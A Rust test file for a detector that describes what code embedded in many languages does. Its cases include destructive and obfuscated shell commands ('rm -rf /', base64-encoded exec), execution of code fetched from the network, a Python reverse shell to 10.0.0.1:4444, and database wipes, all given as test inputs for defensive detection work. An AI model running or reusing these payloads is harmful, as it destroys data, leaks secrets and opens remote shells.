//! What embedded text is seen to do, as short descriptions.

use super::*;
use crate::effect::{Modifier, Span};

fn described(language: Language, text: &str) -> Vec<String> {
    let word = Word::text(text, Span::default());
    read(language, &word, &mut Budget::new(100_000))
        .iter()
        .map(describe)
        .collect()
}

fn describe(embedded: &Embedded) -> String {
    match embedded {
        Embedded::Shell(text) => format!("shell {}", text.display()),
        Embedded::Command(words) => {
            let words: Vec<String> = words.iter().map(Word::display).collect();
            format!("run {}", words.join(" "))
        }
        Embedded::Effect {
            action,
            role,
            target,
            modifiers,
            feed,
        } => {
            let all = if modifiers.contains(Modifier::All) {
                " all"
            } else {
                ""
            };
            let tree = if modifiers.contains(Modifier::Recursive) {
                " tree"
            } else {
                ""
            };
            let feed = if *feed == Feed::Network {
                " from network"
            } else {
                ""
            };
            format!("{action:?} {role:?} {}{tree}{all}{feed}", target.display()).to_lowercase()
        }
        Embedded::Unknown(what) => format!("unknown {what}"),
        Embedded::Hidden(what) => format!("hidden {what}"),
        Embedded::Undescribed(what) => format!("undescribed {what}"),
    }
}

fn check(language: Language, cases: &[(&str, &[&str])]) {
    for (text, expected) in cases {
        let found = described(language, text);
        for line in *expected {
            assert!(
                found.iter().any(|found| found == line),
                "{text}\n  lacks {line}\n  in {found:#?}"
            );
        }
        if expected.is_empty() {
            assert!(found.is_empty(), "{text}: {found:#?}");
        }
    }
}

#[test]
fn python_runs_programs() {
    check(
        Language::Python,
        &[
            ("import os; os.system('rm -rf /')", &["shell rm -rf /"]),
            ("from os import system as s\ns('rm x')", &["shell rm x"]),
            ("import os as o\no.system('a' + 'b')", &["shell ab"]),
            (
                "import subprocess; subprocess.run(['rm', '-rf', p])",
                &["run rm -rf $…"],
            ),
            (
                "import subprocess as sp\nx='/etc'\nsp.call(['rm', x], check=True)",
                &["run rm /etc"],
            ),
            ("__import__('os').system('ls')", &["shell ls"]),
            (
                "getattr(__import__('os'), 'sys'+'tem')('id')",
                &["shell id"],
            ),
            (
                "import os\nos.execvp('rm', ['rm', '-rf', '/'])",
                &["run rm -rf /"],
            ),
            ("import os\nos.system(f'rm -rf {x}')", &["shell rm -rf $…"]),
            (
                "import os\nos.system('/ fr- mr'[::-1])",
                &["shell rm -rf /"],
            ),
            ("import os\nos.system('rm %s' % '/etc')", &["shell rm /etc"]),
            (
                "import os\nos.system('rm {}'.format('/etc'))",
                &["shell rm /etc"],
            ),
            (
                "import os\nos.system(''.join(['r','m',' /']))",
                &["shell rm /"],
            ),
            ("import os\nos.system(chr(108)+chr(115))", &["shell ls"]),
            ("from os import *\nsystem('ls')", &["shell ls"]),
            (
                "def f():\n  os.system(CMD)\nimport os\nCMD = 'id'",
                &["shell id"],
            ),
            ("import pty; pty.spawn('/bin/bash')", &["shell /bin/bash"]),
        ],
    );
}

#[test]
fn python_deletes_and_writes() {
    check(
        Language::Python,
        &[
            (
                "import shutil; shutil.rmtree('/home')",
                &["delete path /home tree"],
            ),
            (
                "from shutil import rmtree; rmtree('/')",
                &["delete path / tree"],
            ),
            (
                "from pathlib import Path; Path('a').unlink()",
                &["delete path a"],
            ),
            (
                "(Path.home() / 'x').unlink(); Path('a') / 'b'",
                &["delete path $home/x"],
            ),
            (
                "import os, glob\nfor f in glob.glob('/x/*'): os.remove(f)",
                &["delete path /x/*"],
            ),
            (
                "import os\n[os.remove(f) for f in ['/a', '/b']]",
                &["delete path /a", "delete path /b"],
            ),
            (
                "open('/etc/passwd', 'w').write('x')",
                &["overwrite path /etc/passwd"],
            ),
            ("with open('a') as f:\n  print(f.read())", &["read path a"]),
            (
                "import os\nos.rename('a', 'b')",
                &["move path a", "overwrite path b"],
            ),
            (
                "import os; print(os.environ)",
                &["read secret the environment all"],
            ),
        ],
    );
}

#[test]
fn python_decodes_and_interprets() {
    check(
        Language::Python,
        &[
            (
                "import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
                &["shell id"],
            ),
            (
                "import urllib.request as u; exec(u.urlopen('http://x').read())",
                &["fetch remote http://x", "interpret code $… from network"],
            ),
            (
                "exec(bytes.fromhex('696d706f7274206f73'))",
                &["interpret code import os"],
            ),
            (
                "getattr(os, name)('x')",
                &["unknown a call whose name is computed"],
            ),
        ],
    );
}

#[test]
fn harmless_python_is_silent() {
    check(
        Language::Python,
        &[
            ("import numpy, scipy; print('ok')", &[]),
            ("import json,sys; print(json.load(sys.stdin)['a'])", &[]),
            ("print(sum(x*x for x in range(10)))", &[]),
            ("import re; print(re.compile('a').match('a'))", &[]),
            ("d = {'a': [1, 2]}; d.pop('a'); l = [3]; l.remove(3)", &[]),
            (
                "import os; env = os.environ.copy(); print(os.environ['HOME'], os.getcwd())",
                &[],
            ),
            (
                "import sys\nif len(sys.argv) > 1:\n    print('%d items' % 3)",
                &[],
            ),
        ],
    );
}

#[test]
fn javascript() {
    check(
        Language::Javascript,
        &[
            (
                "require('child_process').execSync('rm -rf /')",
                &["shell rm -rf /"],
            ),
            (
                "const {exec: e} = require('child_process'); e('id')",
                &["shell id"],
            ),
            (
                "const cp = require('node:child_process'); cp.spawn('rm', ['-rf', '/'])",
                &["run rm -rf /"],
            ),
            (
                "import { execSync } from 'child_process'; execSync(`ls ${x}`)",
                &["shell ls $…"],
            ),
            (
                "require('fs').rmSync('/etc', {recursive: true})",
                &["delete path /etc tree"],
            ),
            (
                "const fs = require('fs'); fs.unlinkSync('a')",
                &["delete path a"],
            ),
            (
                "eval(atob('cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy8nKQ=='))",
                &["delete path / tree"],
            ),
            (
                "console.log(process.env)",
                &["read secret the environment all"],
            ),
            ("console.log(process.env.HOME, 1 / 2, /a'b/.test('c'))", &[]),
            ("[1,2].map(x => x + 1).join(',')", &[]),
        ],
    );
}

#[test]
fn perl_ruby_php_and_others() {
    check(
        Language::Perl,
        &[
            ("system 'rm', '-rf', '/'", &["run rm -rf /"]),
            ("system(\"rm -rf $x\")", &["shell rm -rf $x"]),
            ("`id`; unlink 'a', 'b'", &["shell id", "delete path a"]),
            ("use File::Path; rmtree('/x')", &["delete path /x tree"]),
            (
                "open(F, '|sh'); s/x/system('ls')/e",
                &["shell sh", "shell ls"],
            ),
            ("s/foo/bar/g; print if /x'y/", &[]),
        ],
    );
    check(
        Language::Ruby,
        &[
            (
                "require 'fileutils'; FileUtils.rm_rf('/x')",
                &["delete path /x tree"],
            ),
            ("FileUtils.rm_rf '/x'", &["delete path /x tree"]),
            ("system 'id'; %x(ls)", &["shell id", "shell ls"]),
            (
                "Dir.glob('/x/*').each { |f| File.delete(f) }",
                &["delete path /x/*"],
            ),
            ("puts [1, 2].sum", &[]),
        ],
    );
    check(
        Language::Php,
        &[(
            "system('id'); unlink('/a');",
            &["shell id", "delete path /a"],
        )],
    );
    check(
        Language::Other,
        &[
            ("os.execute('id')", &["shell id"]),
            ("unlink('x', recursive=TRUE)", &["delete path x tree"]),
        ],
    );
}

#[test]
fn sql() {
    check(
        Language::Sql,
        &[
            ("DROP TABLE IF EXISTS users", &["delete table users all"]),
            (
                "select 1; drop database prod;",
                &["delete database prod all"],
            ),
            ("DELETE FROM t", &["delete table t all"]),
            ("DELETE FROM t WHERE 1=1", &["delete table t all"]),
            ("DELETE FROM t WHERE id = 3", &["delete table t"]),
            ("UPDATE t SET a = 1", &["write table t all"]),
            ("/*!50000 DROP TABLE x */", &["delete table x all"]),
            ("TRUNCATE TABLE a, b", &["truncate table a all"]),
            (
                "COPY t TO PROGRAM 'sh -c id'",
                &["shell pg_dump | sh -c id"],
            ),
            ("\\! rm -rf /", &["shell rm -rf /"]),
            (".shell id", &["shell id"]),
            (
                "select * from t into outfile '/tmp/x'",
                &["overwrite path /tmp/x"],
            ),
            (
                "WITH d AS (DELETE FROM t RETURNING *) SELECT 1",
                &["delete table t all"],
            ),
            ("SELECT 'drop table x' -- drop table y", &[]),
            ("\\dt", &[]),
            ("EXPLAIN SELECT * FROM t", &[]),
        ],
    );
    check(
        Language::Mongo,
        &[
            ("db.users.drop()", &["delete table db.users all"]),
            ("db.x.find()", &[]),
        ],
    );
    check(
        Language::Redis,
        &[
            ("FLUSHALL", &["delete database flushall all"]),
            ("GET x", &[]),
        ],
    );
}

#[test]
fn awk_sed_and_ex() {
    check(
        Language::Awk,
        &[
            ("BEGIN { system(\"id\") }", &["shell id"]),
            ("{ print $1 | \"sh\" }", &["shell sh"]),
            ("{ print > \"/etc/x\" }", &["overwrite path /etc/x"]),
            ("BEGIN { \"date\" | getline d; print d }", &["shell date"]),
            ("BEGIN { c = \"rm -rf /\"; system(c) }", &["shell rm -rf /"]),
            (
                "{ print \"rm \" $1 | \"/bin/sh -e\" }",
                &["shell rm $…", "shell /bin/sh -e"],
            ),
            ("$1 > 3 { print $2 / 2 }", &[]),
            (
                "{ print \"a\" > \"/dev/stderr\" }",
                &["overwrite path /dev/stderr"],
            ),
        ],
    );
    check(
        Language::Sed,
        &[
            ("s/x/id/e", &["shell id"]),
            ("w /etc/x", &["overwrite path /etc/x"]),
            ("s/a/b/w out", &["overwrite path out"]),
            ("1e id", &["shell id"]),
            ("s/e/w/g; s|/we|x|", &[]),
            ("/error/d", &[]),
            ("5,6c\\\nexec sh\\\nwhile e", &[]),
            ("1a\\\ntext\n1e id", &["shell id"]),
            ("10,20p", &[]),
        ],
    );
    check(
        Language::Ex,
        &[
            ("!rm x", &["shell rm x"]),
            (":%!sh", &["shell sh"]),
            ("w! /etc/hosts", &["overwrite path /etc/hosts"]),
            ("call system('id')", &["shell id"]),
            ("wq", &[]),
            ("%s/a/b/g|wq", &[]),
        ],
    );
}

#[test]
fn lisp_gdb_and_tcl() {
    check(
        Language::Lisp,
        &[
            ("(shell-command \"rm -rf /\")", &["shell rm -rf /"]),
            (
                "(progn (delete-directory \"/x\" t) (message \"rm\"))",
                &["delete path /x tree"],
            ),
            ("(call-process \"rm\" nil nil)", &["shell rm"]),
            (
                "(shell-command (concat a b))",
                &["hidden `shell-command` on what is computed"],
            ),
            ("(message \"(shell-command)\") (+ 1 2)", &[]),
        ],
    );
    check(
        Language::Gdb,
        &[
            ("shell rm -rf /", &["shell rm -rf /"]),
            ("python import os; os.system('id')", &["shell id"]),
            ("run\nbt\nprint x", &[]),
        ],
    );
    check(
        Language::Tcl,
        &[
            ("spawn rm -rf /; expect eof", &["shell rm -rf /"]),
            ("puts hi", &[]),
        ],
    );
}

#[test]
fn a_shell_on_a_connection_is_code_from_the_network() {
    check(
        Language::Python,
        &[(
            "import socket,os,subprocess;s=socket.socket();s.connect(('10.0.0.1',4444));\
             os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
            &[
                "connect remote 10.0.0.1",
                "interpret code the streams of a connection from network",
                "run /bin/sh -i",
            ],
        )],
    );
}

#[test]
fn a_hole_in_a_string_stays_a_hole_and_one_in_the_code_is_code() {
    let hole = || Piece::Hole(Hole::Variable("DIR".to_owned()));
    let word = |before: &str, after: &str| Word {
        pieces: vec![
            Piece::Text(before.to_owned()),
            hole(),
            Piece::Text(after.to_owned()),
        ],
        span: Span::default(),
    };
    let budget = || Budget::new(1_000);
    let text = word("import shutil; shutil.rmtree('", "/x')");
    let found: Vec<String> = read(Language::Python, &text, &mut budget())
        .iter()
        .map(describe)
        .collect();
    assert_eq!(found, ["delete path $dir/x tree"]);
    let text = word("import x; ", "");
    let found: Vec<String> = read(Language::Python, &text, &mut budget())
        .iter()
        .map(describe)
        .collect();
    assert_eq!(found, ["interpret code import x; $dir"]);
}

proptest::proptest! {
    #[test]
    fn any_text_in_any_language_is_read(text in ".{0,200}", which in 0_usize..12) {
        let languages = [
            Language::Sql, Language::Python, Language::Javascript, Language::Perl, Language::Ruby,
            Language::Php, Language::Awk, Language::Sed, Language::Mongo, Language::Redis,
            Language::Ex, Language::Other,
        ];
        let language = languages[which];
        let found = read(language, &Word::text(text, Span::default()), &mut Budget::new(10_000));
        proptest::prop_assert!(found.len() < 2_000);
    }
}

/// What awk joined had no bound, and an editor's commands were read again for each that stands in front of them.
#[test]
fn what_grows_with_every_use_is_no_longer_known_and_costs_what_it_is_long() {
    let doubled = |times: usize| {
        let twice = "x = x x; ".repeat(times);
        ["BEGIN { x = \"rm a;\"; ", &twice, "system(x) }"].concat()
    };
    let [known] = &described(Language::Awk, &doubled(2))[..] else {
        panic!("one shell text");
    };
    assert_eq!(*known, ["shell ", &"rm a;".repeat(4)].concat());
    let [long] = &described(Language::Awk, &doubled(60))[..] else {
        panic!("one shell text");
    };
    assert!(long.len() < 100, "{long}");
    let silent = "silent ".repeat(40_000) + "!rm a";
    assert_eq!(described(Language::Ex, &silent), ["shell rm a"]);
    let members = ["os", &".a".repeat(30_000)].concat();
    let mut budget = Budget::new(100_000);
    drop(read(
        Language::Ruby,
        &Word::text(members, Span::default()),
        &mut budget,
    ));
    // A name that is used once is paid for by its length.
    assert!(!budget.spend(90_000), "ten thousand units at least");
}
